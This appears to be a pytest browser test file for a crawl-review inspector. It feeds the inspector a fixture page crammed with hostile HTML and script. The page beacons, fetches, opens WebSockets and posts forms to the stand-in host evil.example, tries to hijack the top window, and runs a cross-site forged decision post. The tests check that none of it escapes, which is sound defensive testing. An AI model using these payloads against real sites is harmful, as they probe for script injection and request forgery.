"""The inspector in Chromium: keys, the queue, and hostile pages that reach nobody and change nothing."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from blocklists.decisions import read
from review.inspect.inspector import Inspector
from review.inspect.server import InspectServer
from tests.real_data import data_folder
from tests.review.browser.conftest import Outside, Visit, Visitor
from tests.review.inspect.conftest import PARAGRAPH, Crawl, serving, write_run
from tests.review.runs import kept, published, rejected

pytestmark = pytest.mark.browser
EVIL = "http://evil.example"
# All that a page can ask for, open, send, or do to the window that it stands in.
HOSTILE = f"""<!doctype html><html manifest={EVIL}/manifest><head><title>hostile</title>
<meta http-equiv=refresh content="0;url={EVIL}/refresh"><base href={EVIL}/base/>
<meta http-equiv=Content-Security-Policy content="default-src *"><meta http-equiv=x-dns-prefetch-control content=on>
<link rel=stylesheet href={EVIL}/style.css><link rel=icon href={EVIL}/icon><link rel=preload as=image href={EVIL}/preload>
<link rel=prefetch href={EVIL}/prefetch><link rel=dns-prefetch href=//dns.evil.example><link rel=preconnect href={EVIL}>
<link rel=modulepreload href={EVIL}/module.js><link rel=prerender href={EVIL}/prerender><link rel=manifest href={EVIL}/web>
<style>@import '{EVIL}/import.css'; @font-face {{ font-family: evil; src: url({EVIL}/font); }}
body {{ background: url({EVIL}/background); font-family: evil; cursor: url({EVIL}/cursor), auto; }}</style>
<script src={EVIL}/script.js></script><script type=module>import '{EVIL}/m.js'</script>
<script>parent.document.title='owned'; top.location='{EVIL}/top'; alert(1); fetch('{EVIL}/fetch'); navigator.sendBeacon('{EVIL}/b');
new Image().src='{EVIL}/new'; document.cookie='a=b'; open('{EVIL}/open'); new WebSocket('ws://evil.example/ws')</script></head>
<body onload="location='{EVIL}/onload'" background={EVIL}/attribute><p>{PARAGRAPH * 4}</p><p>{PARAGRAPH * 3}</p>
<img src={EVIL}/img onerror=alert(1) srcset="{EVIL}/2x 2x"><picture><source srcset={EVIL}/source><img src={EVIL}/i2></picture>
<iframe src={EVIL}/frame></iframe><iframe srcdoc="<img src={EVIL}/srcdoc>"></iframe><object data={EVIL}/object></object>
<embed src={EVIL}/embed><video src={EVIL}/video poster={EVIL}/poster autoplay></video><audio src={EVIL}/audio autoplay></audio>
<svg><image href={EVIL}/svg /><use href="{EVIL}/use#a"/><script href={EVIL}/svgscript /></svg><input type=image src={EVIL}/input>
<table background={EVIL}/table><tr><td style="background:url({EVIL}/cell)">x</table><applet code={EVIL}/applet></applet>
<a id=plain href={EVIL}/link ping={EVIL}/ping>plain</a> <a id=up href={EVIL}/up target=_top>up</a>
<a id=window href={EVIL}/window target=_blank>window</a> <a id=script href="javascript:parent.document.title='owned'">script</a>
<a id=load href={EVIL}/download download>load</a> <a id=home href=/ target=_parent>home</a>
<form id=sent action={EVIL}/form method=post><input name=a value=b><button id=send>send</button></form>
<form action={EVIL}/above target=_top><button id=above>above</button></form>
<form method=post action=/decide><input name=decision value="drop domain"><button id=decide>decide</button></form>
</body></html>"""


@pytest.fixture
def serve(tmp_path: Path) -> Iterator[Any]:
    """Starts an inspector over pages by name: gives its server, the crawl, and the file of decisions."""
    started = []

    def start(pages: dict[str, bytes], **settings: Any) -> tuple[InspectServer, Crawl, Path]:
        folder = tmp_path / f"served{len(started)}"
        folder.mkdir()
        crawl = write_run(folder, {name: (f"https://site.example/{name}", html) for name, html in pages.items()})
        path = folder / "decisions.jsonl"
        serving_it = serving(Inspector(crawl.run, decisions=str(path), who="ada", **settings))
        started.append(serving_it)
        return next(serving_it).server, crawl, path

    yield start
    for each in started:
        next(each, None)


def enter(visit: Visitor, server: InspectServer, path: str = "") -> Visit:
    window = visit(server.address)
    if path:
        window.page.goto(f"http://{server.host}{path}")
        window.page.wait_for_timeout(200)
    return window


def strangers(window: Visit, server: InspectServer) -> list[str]:
    return [request for request in window.requests if not request.startswith((f"http://{server.host}/", "data:"))]


@pytest.mark.parametrize("reveal", [False, True])
def test_a_hostile_page_reaches_nobody_and_changes_nothing(visit, serve, outside: Outside, reveal: bool) -> None:
    server, crawl, decisions = serve({"hostile": HOSTILE.encode()}, reveal=reveal)
    path = f"/page/{crawl.ids['hostile']}"
    window = enter(visit, server, path)
    page = window.page
    title = page.title()
    assert outside.asked == []
    frame = page.frame("raw")
    assert "The miller of Stenning" in frame.inner_text("body"), "the page is shown"
    for element in ("plain", "up", "window", "script", "load", "home", "send", "above", "decide"):
        page.goto(f"http://{server.host}{path}")
        page.wait_for_timeout(100)
        page.frame("raw").locator(f"#{element}").click(no_wait_after=True, force=True)
        page.wait_for_timeout(150)
        assert page.url.endswith(path) and page.title() == title, element
        assert len(page.context.pages) == 1, element
    assert outside.asked == [] and not decisions.exists()
    assert not any(said.startswith(("dialog", "window")) for said in window.errors)


@pytest.mark.parametrize("route", ["source", "text", "raw"])
def test_other_tabs_show_it_and_open_alone_it_is_as_harmless(visit, serve, outside: Outside, route: str) -> None:
    server, crawl, _ = serve({"hostile": HOSTILE.encode()})
    window = enter(visit, server, f"/{route}/{crawl.ids['hostile']}")
    assert "The miller of Stenning" in window.page.inner_text("body")
    assert outside.asked == [] and window.page.url.startswith(f"http://{server.host}/{route}/")
    assert route == "raw" or window.page.locator("img, script, a").count() == 0


def test_pages_that_broke_other_parsers_reach_nobody(visit, serve, outside: Outside) -> None:
    files = [path for path in sorted(data_folder("nasty").rglob("*.html")) if path.stat().st_size < 100_000]
    loading = [path for path in files if re.search(rb"(?i)https?://|<script|<form|<iframe|onload", path.read_bytes())]
    server, crawl, _ = serve({f"{n}-{path.name}": path.read_bytes() for n, path in enumerate(loading[:15])})
    window = enter(visit, server)
    for name, identity in crawl.ids.items():
        window.page.goto(f"http://{server.host}/page/{identity}")
        window.page.wait_for_timeout(200)
        assert outside.asked == [] and strangers(window, server) == [], name
        assert window.page.locator("h2").first.inner_text() == "Its way through the run", name
        assert window.page.locator("body img, body object, body embed").count() == 0, name
    assert len(crawl.ids) >= 5


def test_another_sites_page_gets_nothing_and_writes_nothing(visit, serve, outside: Outside) -> None:
    server, crawl, decisions = serve({"kept": f"<p>{PARAGRAPH * 5}</p>".encode()})
    window = enter(visit, server)
    place = f"http://{server.host}"
    identity = crawl.ids["kept"]
    outside.pages["/"] = f"""<iframe name=inner src="{place}/page/{identity}"></iframe>
        <form method=post target=inner action="{place}/decide"><input name=id value={identity}>
        <input name=decision value="drop domain"><input name=token value=guess><button>go</button></form>
        <script>window.got = fetch("{place}/", {{credentials: "include"}}).then((it) => it.text(), () => "nothing");</script>"""
    window.page.goto(f"{EVIL}/")
    assert window.page.evaluate("() => window.got") == "nothing"
    window.page.click("button")
    window.page.wait_for_timeout(300)
    inner = next(frame for frame in window.page.frames if frame.name == "inner")
    assert "Stenning" not in inner.content() and not decisions.exists()


def press(page: Any, key: str) -> None:
    """Presses a key once the page's script listens."""
    page.wait_for_load_state("load")
    page.keyboard.press(key)


def test_keys_decide_undo_and_lead_on(visit, serve) -> None:
    server, _, decisions = serve({name: f"<p>{name} {PARAGRAPH * 4}</p>".encode() for name in ("one", "two", "three")})
    page = enter(visit, server).page
    page.click("table a")
    page.wait_for_selector("[data-key='k']")
    seen = [page.url]
    for key, said in (
        ("k", "Written: keep url"), ("d", "Written: drop url"), ("D", "Written: drop domain site.example"), ("u", "Undone: drop domain"),
    ):  # fmt: skip
        press(page, key)
        page.wait_for_selector(f".warning:has-text('{said}')")
    press(page, "n")
    page.wait_for_url(lambda url: url != seen[0])
    seen.append(page.url)
    press(page, "p")
    page.wait_for_url(seen[0])
    page.wait_for_load_state("load")
    page.fill("input[name=why]", "k")
    page.focus("input[name=note]")
    page.keyboard.press("d")
    assert page.input_value("input[name=note]") == "d", "whoever writes a note decides nothing"
    page.keyboard.press("Tab")
    page.keyboard.press("l")
    page.wait_for_url(re.compile(r"/\?"))
    assert [line.verdict for line in read([decisions])] == ["keep", "drop", "drop", "undo"]
    assert page.locator("td:has-text('drop')").count() == 1, "the list says what was decided"


def test_a_queue_is_walked_by_keys_to_its_end(visit, tmp_path: Path) -> None:
    run = published(
        tmp_path / "run", documents=[kept(f"k{n}") for n in range(2)],
        rejected=[rejected(f"r{n}", "extract", "too_short", score=3.0) for n in range(2)],
    )  # fmt: skip
    path = tmp_path / "decisions.jsonl"
    for browser in serving(Inspector(run, decisions=str(path), queue=4)):
        page = enter(visit, browser.server).page
        assert "Queue of 4" in page.inner_text("body")
        page.click("table a")
        for key in "nkns":
            before = page.url
            page.wait_for_selector("[data-key='k']")
            press(page, key)
            if key == "k":
                page.wait_for_selector(".warning:has-text('Written')")
            else:
                page.wait_for_url(lambda url, before=before: url != before)
        press(page, "n")
        page.wait_for_url(re.compile(r"/\?order=queue"))
        page.wait_for_selector("text=4 have been looked at")
    assert sorted(line.verdict for line in read([path])) == ["confirm", "confirm", "keep", "unsure"]


def test_a_page_of_ten_megabytes_is_shown(visit, serve) -> None:
    paragraphs = b"".join(b"<p>%d %s</p>" % (n, PARAGRAPH.encode()) for n in range(9_900_000 // 130))
    server, crawl, _ = serve({"large": paragraphs[:9_900_000]})
    window = enter(visit, server, f"/page/{crawl.ids['large']}")
    assert "characters; personal data in so many isn't masked" in window.page.frame("raw").inner_text("body")
    assert window.page.locator(".block.kept").count() > 100
    assert "Only the first 400,000 characters are shown" in window.page.inner_text("body")


@pytest.mark.parametrize("width", [360, 1280])
def test_nothing_sticks_out(visit, serve, width: int) -> None:
    server, crawl, _ = serve({"long-" + "x" * 200: f"<p>{PARAGRAPH * 4}{'y' * 500}</p>".encode()})
    page = visit(server.address, viewport={"width": width, "height": 800}).page
    for path in ("/", f"/page/{next(iter(crawl.ids.values()))}"):
        page.goto(f"http://{server.host}{path}")
        assert page.evaluate("() => document.documentElement.scrollWidth - innerWidth") <= 0, path
